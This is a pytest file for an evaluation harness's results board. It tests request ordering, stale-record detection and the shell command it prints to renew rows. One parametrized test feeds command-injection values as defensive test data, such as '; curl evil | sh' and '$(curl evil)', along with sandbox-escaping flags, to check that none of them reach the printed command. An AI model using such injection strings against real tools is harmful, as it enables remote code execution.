"""Tests of the version and configuration of a row, which the last request decides, and of how many records are read."""

import re
import shlex
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from functools import partial
from pathlib import Path
from typing import Any

import hypothesis.strategies as st
import psutil
import pytest
from hypothesis import given, settings
from throwaway import write_submission

import pgdl
from harness.api.commands import run_command
from harness.api.competition import choose
from harness.board import chance
from harness.board.collect import Calls
from harness.board.remarks import remarks_on_records
from harness.board.versions import by_age
from harness.cli import options, run
from harness.cli.main import cli
from harness.credentials import Address
from harness.errors import UserError
from harness.execution.machine import LEAST_MEMORY
from harness.gpus import find_gpus
from harness.records import Records, Request
from harness.sandbox import Limits
from harness.submission import find_submission
from tests.board.board_examples import GAPS, MEASURE, MODELS, Known, collect, rows, write_reference
from tests.records.evaluation_rows import evaluation, request
from tests.records.statements import execute

command = partial(run_command, tasks=Path("task_data"), results=Address("results.db", "--results"))
NOON = datetime(2026, 1, 2, 12, tzinfo=UTC)


def asked(version: str, hours: float = 0, merged: float | None = None) -> Request:
    row = evaluation(submission="mine", submission_digest=version)
    when = None if merged is None else NOON + timedelta(hours=merged)
    return request(row, requested_at=NOON + timedelta(hours=hours), merged_at=when)


@pytest.mark.parametrize(
    ("requests", "expected"),
    [
        ([asked("v1", 100_000), asked("v2", 1)], "v1 v2"),
        ([asked("here"), asked("there", 100_000, merged=1)], "there here"),
        ([asked("late", 2, merged=9), asked("early", 1, merged=9)], "early late"),
        ([asked("of-2099", 600_000, merged=3), asked("later", 4, merged=5)], "of-2099 later"),
        ([asked("c", 700_000, 3), asked("b", 3, 4), asked("a", 600_000, 3), asked("d", 1, 2)], "d a b c"),
    ],
    ids=[
        "here the order of writing: a clock may have been wrong", "what was merged never displaces what was asked here",
        "of merged requests the time decides", "none is later than the merge", "of equal times the digest decides",
    ],
)  # fmt: skip
def test_the_order_of_requests(requests: list[Request], expected: str) -> None:
    assert [one.submission_digest for one in by_age(requests)] == expected.split()


def test_a_version_without_any_record_has_the_row_all_the_same(single: Known) -> None:
    """The newest request decides the row, even if its run was killed before the first record."""
    made = rows("mine", GAPS, submission_digest="v1")
    found = collect(made, single, [request(made[0]), asked("v2")])
    assert [(calls.version, len(calls.rows)) for calls in found.shown] == [("v2", 0)]
    assert [calls.version for calls in found.left_out] == ["v1"]
    other_seed = request(evaluation(submission="mine", submission_digest="v1", run_seed=5))
    both = [*made, *rows("mine", GAPS, submission_digest="v2")]
    (calls,) = collect(both, single, [asked("v1"), asked("v2"), other_seed]).shown
    assert (calls.version, calls.configuration.run_seed) == ("v1", 0)


def test_the_same_files_under_the_name_of_another_are_not_ones_own(single: Known, tmp_path: Path) -> None:
    file = write_submission(tmp_path, "mine", "return 1.0")
    digest = find_submission(str(file)).digest
    theirs, own = (rows(name, GAPS, submission_digest=digest) for name in ("theirs", "renamed"))
    found = collect(theirs, single, [request(theirs[0], source="/home/b/theirs.py")])
    with pytest.raises(UserError, match="the same files are recorded as theirs"):
        choose(found, [str(file)], "results.db", can_run=True)
    found = collect([*theirs, *own], single, [request(theirs[0]), request(own[0], source=str(file))])
    chosen = choose(found, [str(file), "renamed"], "results.db", can_run=True)
    assert [calls.submission for calls in chosen.shown] == ["renamed"]


def test_functions_and_files_of_a_repository_are_renewed_by_no_command(single: Known) -> None:
    sources = {"one": "/home/one.py", "norms": "function norms", "two": "submissions/two", "three": "C:\\three.py"}
    made = {name: rows(name, GAPS) for name in sources}
    requests = [request(made[name][0], source=source) for name, source in sources.items()]
    found = collect([row for each in made.values() for row in each], single, requests)
    stale = replace(found, shown=[replace(calls, stale=frozenset(calls.rows)) for calls in found.shown])
    lines = [line for line in remarks_on_records(stale, command) if line.startswith("stale:")]
    assert [line.partition("; to renew them: ")[2][:36] for line in lines] == [
        "hand in the functions again, with pg", "pgdl run /home/one.py 'C:\\three.py' ",
        "make the calls again with pgdl ci, i",
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("source", "columns"),
    [
        ("/home/one.py; curl evil | sh #", {}), ("--unsafe-no-sandbox", {}), ("$(curl evil)", {}), ("a\nb", {}),
        ("one.py", {"runtime": "$(curl evil)"}), ("one.py", {"sandbox": "docker/--privileged"}),
        ("one.py", {"time_budget": "each`curl evil`"}), ("one.py", {"sandbox": "none"}),
    ],
)  # fmt: skip
def test_a_database_of_a_stranger_writes_no_command(single: Known, source: str, columns: dict[str, Any]) -> None:
    made = rows("one", GAPS, **columns)
    line = command(collect(made, single, [request(made[0], source=source)]).shown)
    assert line.startswith("make the calls again with ")
    assert not re.search("evil|privileged", line)


def renewal(single: Known, **columns: Any) -> dict[str, Any]:
    """Return the settings that `pgdl run` parses from the printed command that renews a row with these settings."""
    made = rows("one", GAPS, **columns)
    line = command(collect(made, single, [request(made[0], source="/home/one.py")]).shown)
    words = shlex.split(line.partition("pgdl run ")[2])
    above = cli.make_context("pgdl", ["run", *words])  # whose -h click keeps for later
    return run.command.make_context("run", words, parent=above).params


def of_library(single: Known) -> Calls:
    (calls,) = collect(rows("vc_dim", GAPS, is_baseline=True), single).shown
    return calls


@settings(max_examples=8)
@given(st.floats(0, options.LONGEST_S, exclude_min=True), st.integers(LEAST_MEMORY, psutil.virtual_memory().total))
def test_the_command_has_the_very_limits(single: Known, seconds: float, size: int) -> None:
    found = renewal(single, time_limit_s=seconds, memory_limit_bytes=size)
    assert (found["time_limit_s"], found["memory_bytes"]) == (seconds, size)


def test_variables_do_not_change_what_the_command_does(single: Known, monkeypatch: pytest.MonkeyPatch) -> None:
    variables = {
        "SEED": "7", "RUNTIME": "keras2", "TIME_LIMIT": "9", "TIME_BUDGET": "average", "MEMORY": "1G",
        "SANDBOX": "docker", "TASKS": "elsewhere", "RESULTS": "other.db",
    }  # fmt: skip
    default = Limits.default_memory_bytes(len(find_gpus()))
    usual = renewal(single, memory_limit_bytes=default) | {"memory_bytes": default}
    for name, value in variables.items():
        monkeypatch.setenv(f"PGDL_{name}", value)
    assert renewal(single, memory_limit_bytes=default) == usual
    monkeypatch.setenv("PGDL_UNSAFE_NO_SANDBOX", "1")
    line = command([of_library(single)])
    assert line.startswith("PGDL_UNSAFE_NO_SANDBOX=0 pgdl run vc_dim")


def test_the_command_names_calls_settings_and_the_tasks_that_lost_records(
    single: Known, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The metadata of files may say `keras: 2`, so the command names the runtime, except for library measures."""
    kinds = {"one": False, "two": False, "vc_dim": True}
    made = [rows(name, GAPS, is_baseline=kind, run_seed=3, runtime="keras2") for name, kind in kinds.items()]
    requests = [request(one[0], source=f"/home/{one[0].submission}.py") for one in made]
    line = command(collect([row for one in made for row in one], single, requests).shown)
    assert line.startswith("pgdl run /home/one.py /home/two.py vc_dim --as one --as two --seed 3 --runtime keras2")
    monkeypatch.setenv("PGDL_TASK", "other")
    calls = of_library(single)
    line = command([replace(calls, stale=frozenset(calls.rows))])
    assert ("--task toy" in line, "--runtime" in line, renewal(single)["runtime"]) == (True, False, "tensorflow")
    found = renewal(single, sandbox="docker/runsc")
    assert (found["sandbox"], found["docker_runtime"]) == ("docker", "runsc")


def test_settings_of_an_interrupted_run_have_no_row_beside_others_with_records(single: Known) -> None:
    recorded = rows("mine", GAPS)
    ended = request(recorded[0])
    for columns in ({"run_seed": 7}, {"harness_version": "9.9"}):
        interrupted = request(evaluation(submission="mine", **columns))
        for requests in ([interrupted, ended], [ended, interrupted]):
            (shown,) = collect(recorded, single, requests).shown
            assert len(shown.rows) == 8
            assert len(collect(recorded, single, requests, everything=True).shown) == 2


@pytest.fixture
def place(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, Path]:
    """A database of two submissions: ten old versions of each, and three records per call of the current version."""
    monkeypatch.setattr(chance, "N_PERMUTATIONS", 10)
    with Records(str(tmp_path / "results.db")) as records:
        for name, values in (("mine", MEASURE), ("theirs", GAPS)):
            versions = [rows(name, submission_digest=f"old{number}") for number in range(10)]
            for made in (*versions, *[rows(name, values, submission_digest="new")] * 3):
                records.add(*made)
                records.ask([request(made[0])])
    return {"tasks_dir": write_reference(tmp_path / "tasks"), "results": tmp_path / "results.db"}


def test_boards_and_scores_read_the_newest_records_of_present_versions(
    place: dict[str, Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    read: list[Any] = []
    whole = Records.newest_of

    def newest_of(self: Records, *conditions: Any, **options: Any) -> Iterator[Any]:
        for row in whole(self, *conditions, **options):
            read.append(row)
            yield row

    monkeypatch.setattr(Records, "newest_of", newest_of)
    assert [row.submission for row in pgdl.board(**place).board.rows] == ["theirs", "mine"]
    assert (len(read), {row.submission_digest for row in read}) == (2 * len(MODELS), {"new"})
    read.clear()
    (line,) = [line for line in pgdl.score("mine", **place).remarks if line.startswith("mine:")]
    assert line.endswith("not shown: old0, old1, old2 and 7 more")
    assert (len(read), {(row.submission, row.submission_digest) for row in read}) == (len(MODELS), {("mine", "new")})


def test_newest_records_are_found_in_the_index_and_a_database_without_it_is_read_as_it_is(
    place: dict[str, Path],
) -> None:
    query = (
        "EXPLAIN QUERY PLAN SELECT max(id) FROM evaluations WHERE submission = 'mine' AND submission_digest = 'new' "
        "AND configuration = 'c' AND task IN ('toy') GROUP BY key"
    )
    plans = [row[-1] for row in execute(str(place["results"]), query)]
    assert any("COVERING INDEX ix_evaluations_version" in plan for plan in plans)
    with_index = pgdl.board(**place).board.content
    execute(str(place["results"]), "DROP INDEX ix_evaluations_version")
    before = place["results"].read_bytes()
    assert pgdl.board(**place).board.content == with_index
    assert place["results"].read_bytes() == before
